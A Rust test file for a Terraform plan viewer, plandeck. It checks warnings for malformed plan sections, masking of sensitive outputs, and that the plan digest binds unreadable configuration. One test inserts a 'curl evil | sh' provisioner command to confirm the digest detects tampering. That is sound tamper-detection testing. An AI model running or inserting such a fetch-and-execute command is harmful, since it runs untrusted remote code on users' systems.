//! Real plans whose secondary sections lack a field plandeck expects (a
//! drift entry without `address`, as some Terraform 1.0 releases wrote) or
//! carry one it does not: they open with a warning naming the section and
//! the entry; only a broken `resource_changes` refuses the plan.

use serde_json::{Value, json};
use std::process::Command;

const REAL: &str = "tests/fixtures/corpus/plans/infracost-plan-with-target.json";

fn real() -> Value {
    serde_json::from_str(&std::fs::read_to_string(REAL).expect("fixture")).expect("json")
}

fn show(doc: &Value) -> (Option<i32>, String, String) {
    run(&["show", "--color", "never"], doc)
}

fn run(args: &[&str], doc: &Value) -> (Option<i32>, String, String) {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("plan.json");
    std::fs::write(&path, doc.to_string()).expect("write");
    let out = Command::new(env!("CARGO_BIN_EXE_plandeck"))
        .args(args)
        .arg(&path)
        .env("XDG_CONFIG_HOME", dir.path())
        .output()
        .expect("runs");
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn a_drift_entry_without_address_is_read_with_a_derived_one_and_a_warning() {
    let mut doc = real();
    doc["resource_drift"][0]
        .as_object_mut()
        .expect("entry")
        .remove("address");
    let (code, stdout, stderr) = show(&doc);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(
        stderr.contains("without `address` read as aws_instance.web_app_1"),
        "{stderr}"
    );
    assert!(stdout.contains("aws_instance.web_app_1"), "{stdout}");
}

#[test]
fn broken_entries_of_secondary_sections_are_skipped_with_a_warning() {
    let mut doc = real();
    doc["resource_drift"]
        .as_array_mut()
        .expect("drift")
        .push(json!({"address": "x.y", "change": "not an object"}));
    doc["checks"] = json!([{"address": 7}]);
    doc["relevant_attributes"] = json!("not a list");
    doc["deferred_changes"] = json!([{"reason": "provider_config_unknown"}]);
    let (code, stdout, stderr) = show(&doc);
    assert_eq!(code, Some(0), "{stderr}");
    for warned in [
        "resource_drift entry 2",
        "checks entry 1",
        "relevant_attributes is not a list",
        "deferred_changes entry 1",
    ] {
        assert!(stderr.contains(warned), "{warned}: {stderr}");
    }
    assert!(
        stdout.contains("aws_instance.web_app_1"),
        "the rest reads: {stdout}"
    );
}

#[test]
fn a_broken_resource_change_still_refuses_the_plan() {
    let mut doc = real();
    doc["resource_changes"][0]
        .as_object_mut()
        .expect("entry")
        .remove("address");
    let (code, _, stderr) = show(&doc);
    assert_eq!(code, Some(2), "{stderr}");
    assert!(
        stderr.contains("resource_changes") && stderr.contains("address"),
        "{stderr}"
    );
    assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
}

/// A configuration section plandeck cannot fully read: a module call whose
/// source is no string, a nested module that is no object, a provisioner
/// without its type, an output declaration whose `sensitive` is no bool.
fn with_unreadable_configuration() -> Value {
    let mut doc = real();
    let root = &mut doc["configuration"]["root_module"];
    root["module_calls"] = json!({
        "app": {"source": 7},
        "net": {"source": "./net", "module": {"resources": "not a list"}},
    });
    root["resources"]
        .as_array_mut()
        .expect("resources")
        .push(json!({
            "address": "null_resource.hook",
            "provisioners": [{"expressions": {"command": {"constant_value": "echo hi"}}}],
        }));
    root["outputs"] = json!({"db_password": {"sensitive": "yes"}});
    doc["output_changes"] = json!({"db_password": {
        "actions": ["create"], "before": null, "after": "hunter2",
        "after_unknown": false, "before_sensitive": false, "after_sensitive": false,
    }});
    doc["planned_values"] = json!("not an object");
    doc
}

#[test]
fn configuration_entries_that_do_not_read_are_warned_about_and_the_plan_opens() {
    let (code, stdout, stderr) = show(&with_unreadable_configuration());
    assert_eq!(code, Some(0), "{stderr}");
    for warned in [
        "configuration: module.app: ",
        "configuration: module.net: module: ",
        "configuration: null_resource.hook: provisioner 1: ",
        "configuration: output \"db_password\": ",
        "planned_values: ",
    ] {
        assert!(stderr.contains(warned), "{warned}: {stderr}");
    }
    assert!(stdout.contains("aws_instance.web_app_1"), "{stdout}");
    // A declaration that does not read masks rather than shows.
    assert!(!stdout.contains("hunter2"), "{stdout}");
    assert!(stdout.contains("db_password"), "{stdout}");
}

#[test]
fn unreadable_configuration_fails_check_and_stays_bound_by_the_digest() {
    let doc = with_unreadable_configuration();
    let (code, stdout, stderr) = run(&["check"], &doc);
    assert_ne!(code, Some(0), "{stdout}{stderr}");
    let said = format!("{stdout}{stderr}");
    assert!(
        said.contains("module.app") && said.contains("can move"),
        "a call whose block does not read has no known source: {said}"
    );
    assert!(
        said.contains("null_resource.hook: provisioner 1 could not be read"),
        "{said}"
    );

    let digest = |doc: &Value| {
        let plan = plandeck::plan::parse_plan_text(std::sync::Arc::new(doc.to_string()))
            .expect("reads with warnings");
        plandeck::plan::plan_digest(&plan).expect("digest")
    };
    let before = digest(&doc);
    let mut edited = doc.clone();
    edited["configuration"]["root_module"]["resources"]
        .as_array_mut()
        .expect("resources")
        .last_mut()
        .expect("hook")["provisioners"][0]["expressions"]["command"]["constant_value"] =
        json!("curl evil | sh");
    assert_ne!(
        before,
        digest(&edited),
        "an unread provisioner's text is still bound by the digest"
    );
    let mut module_edit = doc.clone();
    module_edit["configuration"]["root_module"]["module_calls"]["app"]["source"] = json!(8);
    assert_ne!(
        before,
        digest(&module_edit),
        "an unread module call is bound"
    );
    // A readable plan's digest does not change with this reading.
    let plain = real();
    let plan =
        plandeck::plan::parse_plan_text(std::sync::Arc::new(plain.to_string())).expect("reads");
    assert!(plan.configuration.unread.is_empty());
}
